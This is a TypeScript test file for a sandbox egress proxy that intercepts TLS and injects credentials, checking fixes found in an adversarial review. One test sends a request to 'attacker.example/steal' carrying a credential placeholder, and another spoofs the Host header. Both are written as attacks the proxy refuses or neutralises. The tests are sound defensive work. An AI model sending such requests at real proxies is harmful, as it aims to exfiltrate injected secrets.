/**
 * The egress proxy's TLS interception (credential injection, L7 rules) against hostile clients,
 * driven over its Unix socket as the sandbox agent's forwarder drives it (no container needed):
 * what an adversarial review found, each held shut. The upstream is an HTTPS server of the test's
 * own CA on 127.0.0.2; the resolver is a stub.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import tls from 'node:tls';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EgressEvent } from '../contract/objects.js';
import { LeaseCa } from '../control-plane/egress/ca.js';
import { placeholderKey, placeholderOf } from '../control-plane/egress/inject.js';
import { EgressProxy } from '../control-plane/egress/proxy.js';
import { createTestCa, startHttpsUpstream, type HttpsUpstream } from './fixtures/index.js';

const VALUE = 'real-value-7f3';
const NEWLINE_VALUE = 'ends-in-newline\n';
let dir: string;
let upstream: HttpsUpstream;
let proxy: EgressProxy;
let socketPath: string;
let ca: LeaseCa;
const events: EgressEvent[] = [];
const key = placeholderKey(Buffer.alloc(32, 3));
const placeholder = placeholderOf(key, 'sbx_i', 'TOKEN');
const broken = placeholderOf(key, 'sbx_i', 'BROKEN');

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'sbx-intercept-'));
  const testCa = await createTestCa();
  await writeFile(join(dir, 'upstream-ca.pem'), testCa.certPem);
  upstream = await startHttpsUpstream({ host: '127.0.0.2', hostNames: ['api.test', 'newline.test'], ca: testCa });
  proxy = new EgressProxy({
    resolve: async () => ['127.0.0.2'],
    record: async (_lease, e) => void events.push(e),
    log: pino({ level: 'silent' }),
    upstreamCaFile: join(dir, 'upstream-ca.pem'),
  });
  ca = await LeaseCa.open(join(dir, 'ca'), 'sbx_i');
  const rule = (secret: string, host: string) => ({ secret, hosts: [host], in: 'header' as const, name: 'Authorization' });
  socketPath = join(dir, 'lease', 'proxy.sock');
  await proxy.serve(
    'sbx_i',
    [
      { host: 'api.test', ports: [upstream.port] },
      { host: 'newline.test', ports: [upstream.port] },
      { cidr: '127.0.0.2/32', ports: [upstream.port] },
    ],
    socketPath,
    {
      ca,
      injections: [
        { rule: rule('TOKEN', 'api.test'), placeholder, value: VALUE },
        { rule: rule('BROKEN', 'newline.test'), placeholder: broken, value: NEWLINE_VALUE },
      ],
    },
  );
});

afterAll(async () => {
  await proxy?.close();
  await upstream?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

/** CONNECTs to `host`, ends TLS trusting the lease CA, sends `request` (raw), resolves with all the proxy answered inside. */
function through(host: string, request: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const raw = net.connect(socketPath);
    raw.once('error', reject);
    raw.write(`CONNECT ${host}:${upstream.port} HTTP/1.1\r\nHost: ${host}:${upstream.port}\r\n\r\n`);
    raw.once('data', (head: Buffer) => {
      if (!head.toString().startsWith('HTTP/1.1 200')) return reject(new Error(head.toString()));
      const secure = tls.connect({ socket: raw, servername: host, ca: ca.certPem });
      const chunks: Buffer[] = [];
      secure.on('data', (c: Buffer) => chunks.push(c));
      secure.once('secure', () => secure.write(request));
      secure.once('end', () => resolve(Buffer.concat(chunks).toString()));
      secure.once('error', reject);
    });
  });
}

describe('interception holds what a review broke', () => {
  it('a request naming another target (absolute form) is 400 and reaches nothing', async () => {
    const before = upstream.requests.length;
    const answer = await through(
      'api.test',
      `GET https://attacker.example/steal HTTP/1.1\r\nHost: attacker.example\r\nAuthorization: Bearer ${placeholder}\r\nConnection: close\r\n\r\n`,
    );
    expect(answer).toMatch(/^HTTP\/1\.1 400 /);
    expect(upstream.requests.length).toBe(before);
  });

  it('the server gets the CONNECT host as Host, whatever Host the sandbox wrote, with the value', async () => {
    const before = upstream.requests.length;
    const answer = await through(
      'api.test',
      `GET /x HTTP/1.1\r\nHost: attacker.example\r\nAuthorization: Bearer ${placeholder}\r\nConnection: close\r\n\r\n`,
    );
    expect(answer).toMatch(/^HTTP\/1\.1 200 /);
    expect(upstream.requests.slice(before).map((r) => [r.headers.host, r.headers.authorization])).toEqual([
      [`api.test:${upstream.port}`, `Bearer ${VALUE}`],
    ]);
  });

  it('a value that cannot be a header value (a trailing newline) is answered 502 and logged; the proxy goes on', async () => {
    const before = upstream.requests.length;
    const answer = await through(
      'newline.test',
      `GET /n HTTP/1.1\r\nHost: newline.test\r\nAuthorization: ${broken}\r\nConnection: close\r\n\r\n`,
    );
    expect(answer).toMatch(/^HTTP\/1\.1 502 /);
    expect(upstream.requests.length).toBe(before);
    expect(events.at(-1)).toMatchObject({ host: 'newline.test', error: expect.stringContaining('cannot go in a header') });
    expect(await through('api.test', `GET /after HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n`)).toMatch(/^HTTP\/1\.1 200 /);
  });

  it('pipelined requests are sent on one at a time, in order, each with the value', async () => {
    const before = upstream.requests.length;
    const one = (i: number, last: boolean) =>
      `GET /p${i} HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${placeholder}\r\n${last ? 'Connection: close\r\n' : ''}\r\n`;
    const answer = await through('api.test', Array.from({ length: 20 }, (_, i) => one(i, i === 19)).join(''));
    expect(answer.match(/HTTP\/1\.1 200 /g)).toHaveLength(20);
    expect(upstream.requests.slice(before).map((r) => r.path)).toEqual(Array.from({ length: 20 }, (_, i) => `/p${i}`));
  });

  it('a GET with a JSON content type and no body goes on with no body and no chunked framing', async () => {
    const before = upstream.requests.length;
    await through('api.test', `GET /j HTTP/1.1\r\nHost: api.test\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n`);
    const [seen] = upstream.requests.slice(before);
    expect([seen!.headers['transfer-encoding'], seen!.body.length]).toEqual([undefined, 0]);
  });
});
